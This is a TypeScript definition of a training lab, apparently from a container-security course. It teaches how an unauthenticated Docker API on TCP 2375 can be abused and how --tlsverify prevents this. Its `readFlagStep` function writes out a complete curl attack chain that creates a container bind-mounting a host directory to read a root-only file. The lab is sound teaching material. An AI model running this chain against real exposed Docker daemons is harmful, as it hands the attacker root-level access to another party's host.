// Escape lab: a Docker engine that serves its API on TCP without authentication (the seeds'
// `dockerd -H tcp://0.0.0.0:2375` warning). The learner finds it on the session's network
// and, with curl alone, has it start a container that binds the host's files. The hardened
// engine beside it is started with `--tlsverify`: it serves only clients holding a
// certificate from its own CA, and nobody in the session holds one. Both are throwaway
// engines the server starts for this session (server/docker/session-engine.ts), each inside
// the network namespace of a terminal-less helper container on the lab's internal network,
// so they are reachable from the attacker container and from nowhere else.
import { FLAG_LINE, flagCheck } from '../shared/flag-check.ts';
import type { CheckContext, CheckOutcome, LabDefinition } from '../../server/lab-kit.ts';
import { type Localized, t } from '../shared/localized.ts';

const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
const NETWORK = 'lab-net';
export const PLAIN = { engine: 'engine-tcp', host: 'daemon', port: 2375 } as const;
export const TLS = { engine: 'engine-tls', host: 'daemon-tls', port: 2376 } as const;
const PLAIN_URL = `http://${PLAIN.host}:${PLAIN.port}`;
const TLS_URL = `https://${TLS.host}:${TLS.port}`;

/** A helper whose only job is to own the network namespace an engine listens in. */
function daemonHost(name: string, title: Localized): LabDefinition['containers'][number] {
  return {
    name,
    title,
    terminal: false,
    hostname: name,
    networkMode: { network: NETWORK },
    user: 'nobody',
    capDrop: ['ALL'],
    readonlyRootfs: true,
    memoryMb: 32,
    pidsLimit: 16,
    cpus: 0.25,
  };
}

// What a learner types: every step is one self-contained line (the page's "Show me" runs
// each step in a fresh shell). `curlArgs` lets the same attack be aimed at the TLS engine.
export const FIND_STEP = `curl -s ${PLAIN_URL}/info | grep -o '"ID":"[^"]*"'`;

/** The whole escape over HTTP: image, session directory (from DockerRootDir), create, start, logs. */
export function readFlagStep(base: string, curlArgs = ''): string {
  const curl = `curl -s ${curlArgs}`.trimEnd();
  return [
    `H=${base}`,
    `IMG=$(${curl} $H/images/json | grep -o 'nslab/lab:[0-9a-f]*' | head -1)`,
    `DIR=$(${curl} $H/info | grep -o '"DockerRootDir":"[^"]*"' | cut -d'"' -f4); DIR=\${DIR%/*/data}`,
    `ID=$(${curl} -H 'Content-Type: application/json' -d "{\\"Image\\":\\"$IMG\\",\\"Tty\\":true,\\"Cmd\\":[\\"cat\\",\\"/host/flag\\"],\\"HostConfig\\":{\\"Binds\\":[\\"$DIR:/host:ro\\"]}}" $H/containers/create | grep -o '[0-9a-f]\\{64\\}')`,
    `${curl} -X POST $H/containers/$ID/start >/dev/null; ${curl} -X POST $H/containers/$ID/wait >/dev/null; ${curl} "$H/containers/$ID/logs?stdout=1&stderr=1" | tr -d '\\r'`,
  ].join('; ');
}

export const READ_FLAG_STEP = readFlagStep(PLAIN_URL);
/** The same attack against the hardened engine; -k only skips checking the server's certificate. */
export const HARDENED_STEP = readFlagStep(TLS_URL, '-k');
export const TLS_PROBE_STEP = `curl -sk ${TLS_URL}/info; echo "curl exit code $?"`;

/** The attacker container's addresses on the lab's networks, as the main engine assigned them. */
async function attackerAddresses(ctx: CheckContext): Promise<string[]> {
  const info = await ctx.container('attacker').inspect();
  return Object.values(info.NetworkSettings.Networks)
    .map((n) => n.IPAddress)
    .filter((ip) => ip !== '');
}

/** Lines of dockerd's log where a client from one of `addresses` offered no certificate. */
export function refusedHandshakes(log: string, addresses: readonly string[]): string[] {
  return log
    .split('\n')
    .filter((line) => /TLS handshake error from .*client didn't provide a certificate/.test(line))
    .filter((line) => addresses.some((ip) => line.includes(`from ${ip}:`)));
}

export const escapeDockerTcpLab: LabDefinition = {
  id: 'escape-docker-tcp',
  title: t('Escape: the Docker API on TCP', '逃逸：TCP 上的 Docker API'),
  topic: 'escapes',
  summary: t(
    'Two Docker engines listen on your network: one demands a TLS client certificate, the other nothing at all. Be refused by the first, then make the second read a root-only flag on the host with nothing but curl.',
    '你的网络上有两个 Docker 引擎在监听：一个要求 TLS 客户端证书，另一个什么都不要求。先被第一个拒绝，再只用 curl 让第二个读取宿主机上一个仅 root 可读的 flag。',
  ),
  minutes: 15,
  learned: [
    t(
      'An engine API on TCP without TLS client certificates gives anyone on the network root on its host.',
      '不要求 TLS 客户端证书的 TCP 引擎 API，会把其宿主机上的 root 交给网络上的任何人。',
    ),
    t(
      "--tlsverify refuses every client without a certificate the engine's CA signed.",
      '--tlsverify 拒绝所有没有引擎 CA 所签证书的客户端。',
    ),
  ],
  lesson: 'escape-docker-tcp.md',
  escape: true,
  networks: [{ name: NETWORK }],
  sessionEngines: [
    { name: PLAIN.engine, listen: { container: PLAIN.host, port: PLAIN.port, tls: false } },
    // It never runs a container for anyone, so it needs no image.
    {
      name: TLS.engine,
      listen: { container: TLS.host, port: TLS.port, tls: true },
      image: false,
    },
  ],
  hostFiles: [{ path: 'flag', content: '{{token}}\n', mode: 0o600 }],
  containers: [
    {
      name: 'attacker',
      title: t(`attacker (${NETWORK})`, `attacker（${NETWORK}）`),
      hostname: 'attacker',
      networkMode: { network: NETWORK },
      ...SMALL,
    },
    daemonHost(
      PLAIN.host,
      t(
        `daemon (dockerd -H tcp://0.0.0.0:${PLAIN.port}, no terminal)`,
        `daemon（dockerd -H tcp://0.0.0.0:${PLAIN.port}，无终端）`,
      ),
    ),
    daemonHost(
      TLS.host,
      t(
        `daemon-tls (dockerd --tlsverify, port ${TLS.port}, no terminal)`,
        `daemon-tls（dockerd --tlsverify，端口 ${TLS.port}，无终端）`,
      ),
    ),
  ],
  exercises: [
    {
      id: 'find-the-api',
      title: t('Find the open API', '找到开放的 API'),
      goal: t(
        `An engine on your network answers anyone on port ${PLAIN.port}. Ask it who it is and submit its ID.`,
        `你的网络上有一个引擎在 ${PLAIN.port} 端口上应答任何人。问问它是谁，并提交它的 ID。`,
      ),
      answer: {
        label: t("The engine's ID", '引擎的 ID'),
        placeholder: t('the ID from /info', '/info 中的 ID'),
      },
      hints: [
        t(
          `Docker's API is plain HTTP. Port ${PLAIN.port} is its conventional unencrypted port, and names on a user-defined network resolve through Docker's DNS: try the name "${PLAIN.host}".`,
          `Docker 的 API 就是普通的 HTTP。${PLAIN.port} 是它约定俗成的不加密端口，而用户自定义网络上的名字通过 Docker 的 DNS 解析：试试名字 "${PLAIN.host}"。`,
        ),
        t(
          'GET /info describes the engine: its ID, its data directory, how many containers it runs.',
          'GET /info 描述这个引擎：它的 ID、它的数据目录、它运行着多少个容器。',
        ),
        t(`In the attacker terminal: ${FIND_STEP}`, `在 attacker 终端中：${FIND_STEP}`),
      ],
      check: async (ctx, answer): Promise<CheckOutcome> => {
        const { ID } = await ctx.sessionEngine(PLAIN.engine).info();
        const submitted = (answer ?? '').trim();
        if (submitted !== '' && submitted === ID) {
          return {
            passed: true,
            reason: t(
              `Right: ${ID} is the engine the server started in "${PLAIN.host}" (the server asked it over its Unix socket). Anyone who can open a TCP connection to it can ask the same, and more.`,
              `没错：${ID} 就是服务器在 "${PLAIN.host}" 中启动的那个引擎（服务器通过它的 Unix 套接字问过它）。任何能与它建立 TCP 连接的人都能问同样的问题，还能做更多的事。`,
            ),
          };
        }
        return {
          passed: false,
          reason:
            submitted === ''
              ? t('Submit the ID the engine reports.', '请提交引擎报告的 ID。')
              : t(
                  `${submitted} is not the ID of the engine on port ${PLAIN.port}.`,
                  `${submitted} 不是 ${PLAIN.port} 端口上那个引擎的 ID。`,
                ),
          hint: 0,
        };
      },
      // Plain HTTP to the hardened engine's port learns nothing (and starts no TLS handshake,
      // which the next exercise counts).
      cheat: [
        {
          terminal: 'attacker',
          input: `curl -s http://${TLS.host}:${TLS.port}/info | grep -o '"ID":"[^"]*"'`,
          capture: /"ID":"([^"]+)"/,
        },
      ],
      solution: [{ terminal: 'attacker', input: FIND_STEP, capture: /"ID":"([^"]+)"/ }],
    },
    {
      id: 'tls-refuses',
      title: t('Be refused by the hardened engine', '被加固的引擎拒绝'),
      goal: t(
        `Send a request over TLS to the hardened engine on ${TLS.host}:${TLS.port}, and be refused because you hold no client certificate.`,
        `通过 TLS 向 ${TLS.host}:${TLS.port} 上的加固引擎发送一个请求，并因为你没有客户端证书而被拒绝。`,
      ),
      hints: [
        t(
          `Plain HTTP to a TLS port gets "Client sent an HTTP request to an HTTPS server." and never reaches the TLS check. Speak TLS: https://${TLS.host}:${TLS.port}.`,
          `对 TLS 端口发普通 HTTP，只会得到 "Client sent an HTTP request to an HTTPS server."，根本到不了 TLS 检查。请说 TLS：https://${TLS.host}:${TLS.port}。`,
        ),
        t(
          "curl -k skips checking the server's certificate; it cannot make up a client certificate signed by the engine's CA. The engine logs each refused handshake, with your address.",
          'curl -k 跳过对服务器证书的检查；它变不出一张由引擎的 CA 签发的客户端证书。引擎会把每一次被拒绝的握手连同你的地址记入日志。',
        ),
        t(`In the attacker terminal: ${TLS_PROBE_STEP}`, `在 attacker 终端中：${TLS_PROBE_STEP}`),
      ],
      check: async (ctx): Promise<CheckOutcome> => {
        const engine = ctx.sessionEngine(TLS.engine);
        const [log, containers, addresses] = await Promise.all([
          engine.log(),
          engine.containers(),
          attackerAddresses(ctx),
        ]);
        if (containers.length > 0) {
          return {
            passed: false,
            reason: t(
              `The hardened engine holds ${containers.length} container(s): someone reached it with a certificate. Reset the lab.`,
              `加固引擎中有 ${containers.length} 个容器：有人带着证书连上了它。请重置本实验。`,
            ),
            hint: 0,
          };
        }
        const refused = refusedHandshakes(log, addresses);
        if (refused.length === 0) {
          return {
            passed: false,
            reason: t(
              `The hardened engine's log (read on the host) shows no TLS handshake from the attacker container (${addresses.join(', ')}) refused for want of a client certificate.`,
              `加固引擎的日志（在宿主机上读取）中，没有来自 attacker 容器（${addresses.join(', ')}）、因缺少客户端证书而被拒绝的 TLS 握手。`,
            ),
            hint: 0,
          };
        }
        return {
          passed: true,
          reason: t(
            `The hardened engine refused ${refused.length} TLS handshake(s) from the attacker container, as its log on the host says ("client didn't provide a certificate"), and it runs no containers. --tlsverify turns "anyone on the network" into "whoever holds a key signed by this CA".`,
            `正如它在宿主机上的日志所记（"client didn't provide a certificate"），加固引擎拒绝了来自 attacker 容器的 ${refused.length} 次 TLS 握手，而且它没有运行任何容器。--tlsverify 把“网络上的任何人”变成了“持有这个 CA 所签密钥的人”。`,
          ),
        };
      },
      cheat: [
        // Plain HTTP to the TLS port: refused, but before any certificate is asked for.
        { terminal: 'attacker', input: `curl -s http://${TLS.host}:${TLS.port}/info` },
        {
          terminal: 'attacker',
          input: 'echo "http: TLS handshake error: tls: client didn\'t provide a certificate"',
        },
      ],
      solution: [{ terminal: 'attacker', input: TLS_PROBE_STEP }],
    },
    {
      id: 'read-the-flag',
      title: t("Read the host's flag over the network", '通过网络读取宿主机的 flag'),
      goal: t(
        "Through the open API, read the flag: a root-only file (mode 0600) in this session's host directory that no container of the lab mounts. Submit it.",
        '通过开放的 API 读取 flag：它是本会话在宿主机上的目录中一个仅 root 可读的文件（权限 0600），本实验没有任何容器挂载它。请提交它。',
      ),
      answer: {
        label: t('The flag', 'flag'),
        placeholder: t('16 hex digits', '16 位十六进制数字'),
      },
      hints: [
        t(
          'The engine is root on its host and mounts whatever a create request asks for: "HostConfig": {"Binds": ["<host path>:/host:ro"]}.',
          '引擎是其宿主机上的 root，创建请求要求挂载什么，它就挂载什么："HostConfig": {"Binds": ["<host path>:/host:ro"]}。',
        ),
        t(
          'Which host path? /info tells you DockerRootDir, the engine\'s data directory on the host. Two levels up is this session\'s directory, and the flag is the file "flag" there.',
          '哪个宿主机路径？/info 会告诉你 DockerRootDir，即引擎在宿主机上的数据目录。往上两层就是本会话的目录，flag 就是那里名为 "flag" 的文件。',
        ),
        t(`In the attacker terminal: ${READ_FLAG_STEP}`, `在 attacker 终端中：${READ_FLAG_STEP}`),
      ],
      check: flagCheck(
        t(
          'Right. No container of this lab mounts that file: the engine read it for you as the host\'s root, because an unauthenticated client on the network asked it to. "-H tcp://0.0.0.0:2375" means exactly that.',
          '没错。本实验没有任何容器挂载那个文件：是引擎以宿主机 root 的身份替你读取了它，因为网络上一个未经认证的客户端要求它这么做。"-H tcp://0.0.0.0:2375" 的意思正是如此。',
        ),
      ),
      // The same requests against the engine that demands a client certificate. (It comes
      // after the TLS exercise: this attempt is itself a refused handshake.)
      cheat: [{ terminal: 'attacker', input: HARDENED_STEP, capture: FLAG_LINE }],
      solution: [{ terminal: 'attacker', input: READ_FLAG_STEP, capture: FLAG_LINE }],
    },
  ],
};
